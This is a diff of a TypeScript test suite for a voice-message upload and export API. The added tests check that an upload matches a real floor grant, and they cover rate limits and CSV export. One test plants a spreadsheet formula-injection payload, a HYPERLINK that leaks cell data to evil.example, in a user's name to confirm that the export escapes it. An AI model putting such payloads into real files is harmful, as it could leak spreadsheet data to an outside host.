@@ -17,6 +17,7 @@ import {
   startApp,
   type TestApp,
 } from './harness.ts';
+import { connect, eventually, listen } from './realtime-harness.ts';
 
 /** The first page of an Ogg Opus file (one segment holding OpusHead), then more bytes. */
 export function oggOpus(): Buffer {
@@ -89,13 +90,45 @@ describe.each(databases)('voice history on %s', (dialect) => {
     await app.close();
   });
 
+  /**
+   * The floor grant a browser's recording belongs to (a talk burst, as the floor writes it): the record of a
+   * press at that time, for a transmission uploaded afterwards.
+   */
+  async function grant(userId: number, startedAt: Date, durationMs: number, plane: 'mesh' | 'server' = 'mesh') {
+    return app.services.db
+      .insertInto('talk_bursts')
+      .values({
+        user_id: userId,
+        channel_id: channel.id,
+        channel_name: 'Alpha',
+        started_at: startedAt.toISOString(),
+        ended_at: new Date(startedAt.getTime() + durationMs).toISOString(),
+        plane,
+      })
+      .returning('id')
+      .executeTakeFirstOrThrow();
+  }
+
+  /** Uploads a transmission; a sender who may talk there held the floor then (its grant), unless `granted` false. */
   async function uploadVoice(
-    token: string | undefined,
+    who: Account | undefined,
     fields: Record<string, string | number> = {},
+    audio: { bytes: Buffer; fileName?: string; contentType?: string } | null = { bytes: webmOpus() },
+    granted = true,
+  ): Promise<{ status: number; body: any }> {
+    const all = { channelId: channel.id, startedAt: new Date().toISOString(), durationMs: 2000, ...fields };
+    const at = new Date(String(all.startedAt));
+    if (who && granted && !Number.isNaN(at.getTime())) await grant(who.id, at, Number(all.durationMs) || 1);
+    return sendVoice(who?.token, all, audio);
+  }
+
+  async function sendVoice(
+    token: string | undefined,
+    fields: Record<string, string | number>,
     audio: { bytes: Buffer; fileName?: string; contentType?: string } | null = { bytes: webmOpus() },
   ): Promise<{ status: number; body: any }> {
     const form = multipartForm(
-      { channelId: channel.id, startedAt: new Date().toISOString(), durationMs: 2000, ...fields },
+      fields,
       audio
         ? {
             field: 'audio',
@@ -120,7 +153,7 @@ describe.each(databases)('voice history on %s', (dialect) => {
     const pushes = recordPushes(app);
     const bytes = webmOpus();
     const startedAt = new Date(Date.now() - 5000).toISOString();
-    const sent = await uploadVoice(mia.token, { startedAt, durationMs: 2150 });
+    const sent = await uploadVoice(mia, { startedAt, durationMs: 2150 });
     expect(sent.status).toBe(200);
     expect(sent.body.res).toMatchObject({
       channelId: channel.id,
@@ -157,41 +190,41 @@ describe.each(databases)('voice history on %s', (dialect) => {
   });
 
   it('accepts Ogg/Opus and refuses a renamed text file, a WAV and an oversized file, writing nothing', async () => {
-    expect((await uploadVoice(mia.token, {}, { bytes: oggOpus(), fileName: 'talk.ogg' })).status).toBe(200);
-    const text = await uploadVoice(mia.token, {}, { bytes: Buffer.from('hello, this is not audio\n'.repeat(20)) });
+    expect((await uploadVoice(mia, {}, { bytes: oggOpus(), fileName: 'talk.ogg' })).status).toBe(200);
+    const text = await uploadVoice(mia, {}, { bytes: Buffer.from('hello, this is not audio\n'.repeat(20)) });
     expect(text.status).toBe(400);
     expect(text.body.result).toMatch(/Opus/);
-    const riff = await uploadVoice(mia.token, {}, { bytes: wav(), fileName: 'talk.webm', contentType: 'audio/webm' });
+    const riff = await uploadVoice(mia, {}, { bytes: wav(), fileName: 'talk.webm', contentType: 'audio/webm' });
     expect(riff.status).toBe(400);
-    const big = await uploadVoice(mia.token, {}, { bytes: webmOpus(80 * 1024) });
+    const big = await uploadVoice(mia, {}, { bytes: webmOpus(80 * 1024) });
     expect(big.status).toBe(413);
     expect(big.body.result).toMatch(/MB/);
-    const none = await uploadVoice(mia.token, {}, null);
+    const none = await uploadVoice(mia, {}, null);
     expect(none.status).toBe(400);
     expect((await list(admin.token)).body.res).toHaveLength(1);
     expect(storedFiles()).toHaveLength(1);
   });
 
   it('checks the fields: a bad time or duration is a 400 naming the field', async () => {
-    const badTime = await uploadVoice(mia.token, { startedAt: 'yesterday' });
+    const badTime = await uploadVoice(mia, { startedAt: 'yesterday' });
     expect(badTime.status).toBe(400);
     expect(badTime.body.result).toMatch(/startedAt/);
-    const badDuration = await uploadVoice(mia.token, { durationMs: 0 });
+    const badDuration = await uploadVoice(mia, { durationMs: 0 });
     expect(badDuration.status).toBe(400);
     expect(badDuration.body.result).toMatch(/durationMs/);
     // A clock ahead of the server's does not put a transmission in the future.
-    const ahead = await uploadVoice(mia.token, { startedAt: new Date(Date.now() + 3600_000).toISOString() });
+    const ahead = await uploadVoice(mia, { startedAt: new Date(Date.now() + 3600_000).toISOString() });
     expect(new Date(ahead.body.res.createdAt).getTime()).toBeLessThanOrEqual(Date.now());
   });
 
   it('lets only readers of the channel upload and list, only administrators delete and export', async () => {
     expect((await uploadVoice(undefined)).status).toBe(401);
-    const refused = await uploadVoice(outsider.token);
+    const refused = await uploadVoice(outsider);
     expect(refused.status).toBe(403);
     expect(refused.body.result).toBe('You are not a member of this channel.');
     expect(storedFiles()).toHaveLength(0);
-    const sent = (await uploadVoice(mia.token)).body.res;
-    expect((await uploadVoice(admin.token)).status).toBe(200);
+    const sent = (await uploadVoice(mia)).body.res;
+    expect((await uploadVoice(admin)).status).toBe(200);
 
     expect((await list(outsider.token)).status).toBe(403);
     expect((await list(mia.token)).body.res).toHaveLength(2);
@@ -225,7 +258,7 @@ describe.each(databases)('voice history on %s', (dialect) => {
       admin.token,
     );
     expect(off.body.res.recording).toBe(false);
-    expect((await uploadVoice(mia.token)).status).toBe(409);
+    expect((await uploadVoice(mia)).status).toBe(409);
     expect(storedFiles()).toHaveLength(0);
     const created = await app.call('/user/api/createChannel', { channelName: 'Quiet', recording: false }, admin.token);
     expect(created.body.res.recording).toBe(false);
@@ -237,10 +270,10 @@ describe.each(databases)('voice history on %s', (dialect) => {
     const base = Date.now() - 60_000;
     const ids: number[] = [];
     for (const offset of [0, 10_000, 20_000, 30_000, 40_000]) {
-      ids.push((await uploadVoice(mia.token, { startedAt: new Date(base + offset).toISOString() })).body.res.id);
+      ids.push((await uploadVoice(mia, { startedAt: new Date(base + offset).toISOString() })).body.res.id);
     }
     // Recorded offline before all of them, uploaded last.
-    const late = (await uploadVoice(mia.token, { startedAt: new Date(base - 10_000).toISOString() })).body.res.id;
+    const late = (await uploadVoice(mia, { startedAt: new Date(base - 10_000).toISOString() })).body.res.id;
     const first = await list(mia.token, { limit: 4 });
     expect(first.body.res.map((v: { id: number }) => v.id)).toEqual([ids[4], ids[3], ids[2], ids[1]]);
     expect(first.body.hasMore).toBe(true);
@@ -251,8 +284,8 @@ describe.each(databases)('voice history on %s', (dialect) => {
   });
 
   it('keeps a transmission sent twice with the same clientId once', async () => {
-    const once = await uploadVoice(mia.token, { clientId: 'outbox-0001' });
-    const twice = await uploadVoice(mia.token, { clientId: 'outbox-0001' });
+    const once = await uploadVoice(mia, { clientId: 'outbox-0001' });
+    const twice = await uploadVoice(mia, { clientId: 'outbox-0001' });
     expect(twice.status).toBe(200);
     expect(twice.body.res.id).toBe(once.body.res.id);
     expect((await list(mia.token)).body.res).toHaveLength(1);
@@ -261,8 +294,8 @@ describe.each(databases)('voice history on %s', (dialect) => {
 
   it('the retention sweep deletes old transmissions, rows and files together, and keeps recent ones', async () => {
     const day = 24 * 3600_000;
-    const old = await uploadVoice(mia.token, { startedAt: new Date(Date.now() - 31 * day).toISOString() });
-    const recent = await uploadVoice(mia.token, { startedAt: new Date(Date.now() - 29 * day).toISOString() });
+    const old = await uploadVoice(mia, { startedAt: new Date(Date.now() - 31 * day).toISOString() });
+    const recent = await uploadVoice(mia, { startedAt: new Date(Date.now() - 29 * day).toISOString() });
     expect(storedFiles()).toHaveLength(2);
     expect(app.config.voiceRetentionMs).toBe(30 * day);
     expect(await sweepExpiredVoice(app.services.voice, app.config.voiceRetentionMs)).toBe(1);
@@ -273,7 +306,7 @@ describe.each(databases)('voice history on %s', (dialect) => {
 
   it('sweeps by itself: soon after start, then every hour', async () => {
     const day = 24 * 3600_000;
-    await uploadVoice(mia.token, { startedAt: new Date(Date.now() - 2 * day).toISOString() });
+    await uploadVoice(mia, { startedAt: new Date(Date.now() - 2 * day).toISOString() });
     vi.useFakeTimers({ toFake: ['setTimeout', 'setInterval'] });
     let stop: () => void = () => {};
     try {
@@ -290,7 +323,7 @@ describe.each(databases)('voice history on %s', (dialect) => {
   });
 
   it('a deleted talker leaves its transmissions, attributed to a deleted user; a deleted channel takes its files', async () => {
-    const sent = (await uploadVoice(mia.token)).body.res;
+    const sent = (await uploadVoice(mia)).body.res;
     expect((await app.call('/user/api/deleteUser', { UserId: mia.id }, admin.token)).status).toBe(200);
     const kept = (await list(admin.token)).body.res;
     expect(kept).toEqual([expect.objectContaining({ id: sent.id, userId: null, display_name: sent.display_name })]);
@@ -301,8 +334,8 @@ describe.each(databases)('voice history on %s', (dialect) => {
   });
 
   it('deletes a user with its transmissions, rows and files, when the administrator chooses to', async () => {
-    await uploadVoice(mia.token);
-    await uploadVoice(admin.token);
+    await uploadVoice(mia);
+    await uploadVoice(admin);
     const deleted = await app.call('/user/api/deleteUser', { UserId: mia.id, deleteVoiceMessages: true }, admin.token);
     expect(deleted.status).toBe(200);
     const left = (await list(admin.token)).body.res;
@@ -310,13 +343,48 @@ describe.each(databases)('voice history on %s', (dialect) => {
     expect(storedFiles()).toHaveLength(1);
   });
 
+  it("writes a talker named like a formula into index.csv as text (protocol's CSV rule)", async () => {
+    const hostile = await createMember(app, admin, {
+      firstName: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+      lastName: 'Smith',
+    });
+    const atSign = await createMember(app, admin, { firstName: '@SUM(1+1)', lastName: 'Jones' });
+    const startedAt = new Date(Date.now() - 60_000);
+    for (const talker of [hostile, atSign])
+      await app.services.voice.create({
+        channelId: channel.id,
+        userId: talker.id,
+        mime: 'audio/webm',
+        bytes: webmOpus(),
+        durationMs: 1000,
+        startedAt,
+      });
+    const response = await app.fastify.inject({
+      method: 'POST',
+      url: '/user/api/exportVoiceMessages',
+      headers: { 'x-access-token': admin.token },
+      payload: {
+        channelId: channel.id,
+        from: new Date(Date.now() - 3600_000).toISOString(),
+        to: new Date().toISOString(),
+      },
+    });
+    expect(response.statusCode).toBe(200);
+    const index = unzip(response.rawPayload).get('index.csv')?.toString('utf8').trim().split('\r\n') ?? [];
+    expect(index).toHaveLength(3);
+    const talkers = index.slice(1).map((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)[1]);
+    expect(talkers.sort()).toEqual(
+      [`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"") Smith"`, "'@SUM(1+1) Jones"].sort(),
+    );
+  });
+
   it('exports a time range as a zip of the audio files and index.csv', async () => {
     const now = Date.now();
-    const inside = (await uploadVoice(mia.token, { startedAt: new Date(now - 600_000).toISOString() })).body.res;
-    await uploadVoice(mia.token, { startedAt: new Date(now - 7200_000).toISOString() });
+    const inside = (await uploadVoice(mia, { startedAt: new Date(now - 600_000).toISOString() })).body.res;
+    await uploadVoice(mia, { startedAt: new Date(now - 7200_000).toISOString() });
     const ogg = (
       await uploadVoice(
-        mia.token,
+        mia,
         { startedAt: new Date(now - 300_000).toISOString(), durationMs: 1500 },
         { bytes: oggOpus() },
       )
@@ -347,5 +415,112 @@ describe.each(databases)('voice history on %s', (dialect) => {
       admin.token,
     );
     expect(backwards.status).toBe(400);
+  });
+
+  describe('a record nobody can forge (issue 35)', () => {
+    it('keeps a transmission of a real floor grant once, dated by the grant, and nothing without one', async () => {
+      const url = await listen(app);
+      const socket = await connect(url, mia.token);
+      try {
+        expect((await socket.emitAck('join_room', { room: channel.rtcSession, mode: 'talk' })).success).toBe(true);
+        expect(await socket.emitAck('floor_request', { room: channel.rtcSession })).toEqual({ granted: true });
+        const burst = await eventually(
+          async () => (await app.services.talkBursts.ofUser(mia.id, 1))[0],
+          'the grant kept as a talk burst',
+        );
+        socket.socket.emit('floor_release', { room: channel.rtcSession });
+        await eventually(async () => (await app.services.talkBursts.byId(burst.id))?.endedAt, 'the grant ended');
+        // The browser's clock is 3 s off: the record says when the floor was granted.
+        const claimed = new Date(Date.parse(burst.startedAt) + 3000).toISOString();
+        const sent = await sendVoice(mia.token, { channelId: channel.id, startedAt: claimed, durationMs: 500 });
+        expect(sent.status).toBe(200);
+        expect(sent.body.res.createdAt).toBe(burst.startedAt);
+        // The same grant again (another clientId): refused, nothing written.
+        const again = await sendVoice(mia.token, { channelId: channel.id, startedAt: claimed, durationMs: 500 });
+        expect(again.status).toBe(409);
+        expect(again.body.result).toMatch(/^No transmission of yours matches this recording/);
+        expect(storedFiles()).toHaveLength(1);
+      } finally {
+        socket.close();
+      }
+    });
+
+    it('refuses a forged, old, too long or borrowed recording', async () => {
+      const now = Date.now();
+      const refused = async (fields: Record<string, string | number>) => {
+        const answer = await sendVoice(mia.token, { channelId: channel.id, durationMs: 2000, ...fields });
+        expect(answer.status).toBe(409);
+        expect(answer.body.result).toMatch(/^No transmission of yours matches/);
+      };
+      // No grant at all; three days ago; 6 s from the only grant.
+      await refused({ startedAt: new Date(now).toISOString() });
+      await refused({ startedAt: new Date(now - 3 * 24 * 3600_000).toISOString() });
+      await grant(mia.id, new Date(now - 20_000), 2000);
+      await refused({ startedAt: new Date(now - 14_000).toISOString() });
+      // Longer than its grant (2 s) by more than 2 s.
+      await refused({ startedAt: new Date(now - 20_000).toISOString(), durationMs: 4500 });
+      // Another talker's grant; a grant in another channel.
+      await grant(admin.id, new Date(now - 40_000), 2000);
+      await refused({ startedAt: new Date(now - 40_000).toISOString() });
+      expect(storedFiles()).toHaveLength(0);
+      // Mia's own grant, within the tolerances, is kept.
+      const kept = await sendVoice(mia.token, {
+        channelId: channel.id,
+        startedAt: new Date(now - 16_000).toISOString(),
+        durationMs: 3900,
+      });
+      expect(kept.status).toBe(200);
+      expect(kept.body.res.createdAt).toBe(new Date(now - 20_000).toISOString());
+    });
+
+    it('refuses uploads where the media server records the channel', async () => {
+      const at = new Date(Date.now() - 5000);
+      await grant(mia.id, at, 2000, 'server');
+      const answer = await sendVoice(mia.token, {
+        channelId: channel.id,
+        startedAt: at.toISOString(),
+        durationMs: 1000,
+      });
+      expect(answer.status).toBe(409);
+      expect(answer.body.result).toBe(
+        "The media server records this channel's transmissions: a recording sent by a browser is not kept.",
+      );
+      expect(storedFiles()).toHaveLength(0);
+    });
+
+    it('limits how many transmissions one user uploads in a minute, like images', async () => {
+      const base = Date.now() - 600_000;
+      for (let i = 0; i < 30; i += 1)
+        expect((await uploadVoice(mia, { startedAt: new Date(base + i * 10_000).toISOString() })).status).toBe(200);
+      const over = await uploadVoice(mia, { startedAt: new Date(base + 300_000).toISOString() });
+      expect(over.status).toBe(429);
+      expect(over.body).toMatchObject({ code: 'too_many_uploads', params: { seconds: expect.any(Number) } });
+      // Another talker is not held back.
+      expect((await uploadVoice(admin)).status).toBe(200);
+    });
+  });
+});
+
+describe.each(databases)('voice uploads with a media server on %s', (dialect) => {
+  it('refuses a recording without a grant on a channel the media server records', async () => {
+    const app = await startApp(dialect, { janusUrls: ['ws://127.0.0.1:1'] });
+    try {
+      const admin = await signUpAdmin(app);
+      const channel = (await app.call('/user/api/createChannel', { channelName: 'Relay' }, admin.token)).body.res;
+      const form = multipartForm(
+        { channelId: channel.id, startedAt: new Date().toISOString(), durationMs: 1000 },
+        { field: 'audio', fileName: 'talk.webm', contentType: 'audio/webm', bytes: webmOpus() },
+      );
+      const response = await app.fastify.inject({
+        method: 'POST',
+        url: '/user/api/uploadVoiceMessage',
+        headers: { 'content-type': form.contentType, 'x-access-token': admin.token },
+        payload: form.payload,
+      });
+      expect(response.statusCode).toBe(409);
+      expect(response.json().result).toMatch(/^The media server records this channel/);
+    } finally {
+      await app.close();
+    }
   });
 });
